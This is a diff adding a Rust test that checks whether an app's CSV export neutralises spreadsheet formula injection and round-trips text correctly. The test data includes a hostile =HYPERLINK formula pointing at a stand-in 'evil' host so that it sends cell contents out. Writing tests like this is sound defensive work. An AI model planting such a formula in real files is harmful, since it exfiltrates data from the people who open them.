@@ -327,3 +327,50 @@ both!(bad_files_store_nothing, |app| async move {
     assert_eq!(status, StatusCode::OK, "{report}");
     assert_eq!(stored(&other).await, 2);
 });
+
+both!(
+    csv_cells_that_would_run_as_formulas_are_quoted_and_read_back,
+    |app| async move {
+        let admin = app.client_as(Role::Admin).await;
+        let member = app.client_as(Role::Member).await;
+        let title = r#"=HYPERLINK("https://evil/?"&A1,"x")"#;
+        let mut body = practice(title, None);
+        body["summary"] = json!("-30% di emissioni in un anno");
+        body["results"] = json!("'-- già tra virgolette");
+        body["lessons"] = json!("'Ndrangheta: un apostrofo all'inizio resta com'è");
+        let id = create(&member, &body).await;
+        step(&member, id, "submit").await;
+        step(&admin, id, "publish").await;
+        let file = export(&app.client(), "csv").await;
+        let mut reader = csv::Reader::from_reader(file.as_bytes());
+        let header: Vec<String> = reader
+            .headers()
+            .unwrap()
+            .iter()
+            .map(str::to_owned)
+            .collect();
+        let row = reader.records().next().expect("the practice").unwrap();
+        let cell = |c: &str| row[header.iter().position(|h| h == c).unwrap()].to_owned();
+        assert_eq!(cell("title"), format!("'{title}"));
+        assert_eq!(cell("summary"), "'-30% di emissioni in un anno");
+        // An apostrophe that could be taken for the quote is quoted in turn.
+        assert_eq!(cell("results"), "''-- già tra virgolette");
+        assert_eq!(
+            cell("lessons"),
+            "'Ndrangheta: un apostrofo all'inizio resta com'è"
+        );
+        assert_eq!(cell("launch_year"), "2021", "numbers stay numbers");
+        // JSON carries the text as written.
+        let json_file = export(&app.client(), "json").await;
+        let doc: Value = serde_json::from_str(&json_file).unwrap();
+        assert_eq!(doc["practices"][0]["texts"][0]["title"], title);
+        // Imported elsewhere, the CSV gives back the text as written.
+        let other = fresh(&app).await;
+        let other_admin = other.client_as(Role::Admin).await;
+        let (status, report) = import(&other_admin, "text/csv", &file).await;
+        assert_eq!(status, StatusCode::OK, "{report}");
+        assert_eq!(report, json!({"created": 1, "updated": 0, "unchanged": 0}));
+        assert_eq!(export(&other.client(), "json").await, json_file);
+        assert_eq!(export(&other.client(), "csv").await, file);
+    }
+);
